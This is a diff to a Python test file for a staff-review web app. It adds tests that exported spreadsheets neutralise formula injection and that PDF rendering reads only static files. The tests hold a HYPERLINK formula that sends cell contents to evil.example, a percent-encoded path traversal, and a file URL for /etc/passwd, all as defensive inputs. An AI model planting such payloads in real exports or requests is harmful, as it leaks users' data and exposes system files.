@@ -5,13 +5,15 @@ from __future__ import annotations
 
 import io
 from datetime import date
+from pathlib import Path
 
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 from pypdf import PdfReader
-from sqlmodel import Session
+from sqlmodel import Session, col, select
 
-from app.models import Review, Role, Team
+from app.models import Rating, Review, Role, Team
+from app.services import reports
 from tests.factories import make_team, make_user, shipped_scale
 from tests.services.test_profiles import finalised, in_progress
 from tests.web.signin import parse, sign_in
@@ -97,3 +99,33 @@ def test_a_team_leader_cannot_fetch_another_teams_report(
     review, _ = _reviewed(session)
     sign_in(client, make_user(session, role=Role.TEAM_LEADER, teams=(make_team(session),)).username)
     assert client.get(f"/reviews/{review.id}/report.pdf").status_code == 404
+
+
+def test_spreadsheet_formulas_in_texts_stay_text(client: TestClient, session: Session) -> None:
+    review, _ = _reviewed(session)
+    rating = session.exec(
+        select(Rating).where(Rating.review_id == review.id, col(Rating.recommendation).is_not(None))
+    ).first()
+    assert rating is not None
+    rating.recommendation = '=HYPERLINK("http://evil.example/?"&B1,"Se mere")'
+    session.add(rating)
+    session.commit()
+    sign_in(client, make_user(session, role=Role.ADMIN).username)
+
+    book = load_workbook(io.BytesIO(client.get(f"/reviews/{review.id}/scoresheet.xlsx").content))
+
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert any(str(cell.value).startswith("'=HYPERLINK") for cell in cells)
+
+
+def test_the_pdf_may_read_only_the_apps_static_files(tmp_path: Path) -> None:
+    static = tmp_path / "static"
+    (static / "css").mkdir(parents=True)
+    secret = tmp_path / "secret.txt"
+    secret.write_text("x")
+    assert reports.inside((static / "css" / "report.css").as_uri(), static)
+    assert not reports.inside(secret.as_uri(), static)
+    assert not reports.inside(static.as_uri() + "/%2e%2e/secret.txt", static)
+    assert not reports.inside("http://evil.example/x.css", static)
+    assert not reports.inside("file://evil.example/etc/passwd", static)
